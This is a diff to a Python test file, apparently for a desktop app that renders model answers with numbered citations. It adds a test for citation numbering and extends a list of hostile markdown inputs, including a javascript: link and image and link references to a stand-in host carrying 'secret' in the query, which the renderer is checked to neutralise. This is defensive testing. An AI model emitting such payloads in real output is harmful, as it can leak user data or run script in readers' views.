@@ -1,6 +1,7 @@
 """A result as a document: complete, numbered, exact, and inert whatever a model wrote."""
 
 import json
+from dataclasses import replace
 from datetime import UTC, datetime
 from decimal import Decimal
 
@@ -28,7 +29,9 @@ from agentflow_desktop.workflows.ask.wording import BADGES, QUOTE_STATES, STOP_R
 
 
 def quote(text: str, line: int | None = 4, state: QuoteState = QuoteState.EXACT) -> Evidence:
-    return Evidence(file="cell.md", digest="d", quote=text, state=state, line=line)
+    """A quote that begins its line, each line of a hundred characters."""
+    start, end = (line * 100, line * 100 + len(text)) if line is not None else (None, None)
+    return Evidence("cell.md", "d", text, state, None, line, line, start, end)
 
 
 def new_result(*claims: Claim, title: str = "Charge current") -> AskResult:
@@ -73,6 +76,16 @@ def test_quotes_are_numbered_once_in_reading_order_and_rejected_ones_stand_apart
     assert (citations.marks(first), citations.marks(second)) == ("[1]", "[1][2]")
 
 
+def test_one_place_has_one_number_however_its_words_were_copied() -> None:
+    exact = quote("140 A")
+    copied = replace(exact, quote="140\u00a0A", state=QuoteState.SPACES)
+    claim = Claim("c1", "One.", (exact, copied))
+    citations = number_citations(Answer("", (claim,)))
+    assert citations.quotes == (exact,)
+    assert citations.numbers(claim) == (1,)
+    assert citations.number(copied) == 1
+
+
 def test_markdown_tells_everything_a_reader_needs_to_check() -> None:
     text = to_markdown(
         new_result(
@@ -113,6 +126,9 @@ _LOST = QuoteState.NOT_FOUND
         ("<!-- hidden --><script>x</script>", "<script"),
         ("![pixel](http://evil.example/?q=secret)", "![pixel]"),
         ("![ref][1]\n\n[1]: http://evil.example/", "![ref]"),
+        ("[the sheet](javascript:alert(1))", "]("),
+        ("[`140 A`](http://evil.example/?q=secret)", "]("),
+        ("[the sheet][1]\n\n[1]: http://evil.example/", "]:"),
         ("` <img src=x> ``", "<img"),
         ("\\`<img src=x>\\`", "<img"),
         ("| ` | <img src=x> | ` |", "<img"),
